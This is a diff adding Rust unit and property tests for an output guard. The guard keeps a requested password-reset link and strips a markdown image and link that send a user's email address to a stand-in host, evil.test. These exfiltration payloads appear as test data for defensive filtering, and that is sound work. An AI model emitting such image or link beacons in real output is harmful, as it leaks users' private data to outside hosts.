@@ -302,6 +302,50 @@ mod tests {
         assert!(email.changed());
     }
 
+    /// The reset link the user asked for survives the answer whole (token included);
+    /// an image and a link carrying an email to another host do not. Text a tool sends
+    /// on judges links strictly and loses the reset link too.
+    #[test]
+    fn the_answer_keeps_the_links_asked_for_and_loses_the_exfiltrating_ones() {
+        let guards = Guards::new(GuardConfig::default(), [1; 32]);
+        let reset =
+            "https://accounts.shop.test/reset?token=9f8e7d6c5b4a39281706f5e4d3c2b1a0aa&uid=48213";
+        let text = format!(
+            "Your reset link: {reset}\n![s](https://evil.test/s.png) [more](//evil.test/?u=ana%40example.com)"
+        );
+        let answer = guards.output(ANSWER_CHANNEL, &text);
+        assert!(answer.text.contains(reset), "{}", answer.text);
+        assert!(answer.redactions.is_empty(), "{:?}", answer.redactions);
+        assert_eq!(answer.removed.len(), 2, "{:?}", answer.removed);
+        assert!(!answer.text.contains("evil.test/"), "{}", answer.text);
+        let forum = guards.output("public_forum", &text);
+        assert!(!forum.text.contains("token="), "{}", forum.text);
+        assert_eq!(forum.removed.len(), 3, "{:?}", forum.removed);
+        // Configured per channel.
+        let policy: OutputPolicy =
+            serde_json::from_str(r#"{"links": "keep_unless_sensitive"}"#).unwrap_or_default();
+        assert_eq!(policy.links, LinkPolicy::KeepUnlessSensitive);
+    }
+
+    mod robustness {
+        use super::*;
+        use proptest::prelude::*;
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(256))]
+
+            #[test]
+            fn output_is_idempotent_on_every_channel(s in "[a-z@/:?=&#.\\ \\[\\]()!<>\"'0-9]{0,60}") {
+                let guards = Guards::new(GuardConfig::default(), [1; 32]);
+                for channel in [ANSWER_CHANNEL, "public_forum"] {
+                    let once = guards.output(channel, &s);
+                    let twice = guards.output(channel, &once.text);
+                    prop_assert_eq!(&twice.text, &once.text, "{:?}", s);
+                }
+            }
+        }
+    }
+
     #[test]
     fn log_lines_are_redacted_before_they_are_written() {
         use std::sync::Mutex;
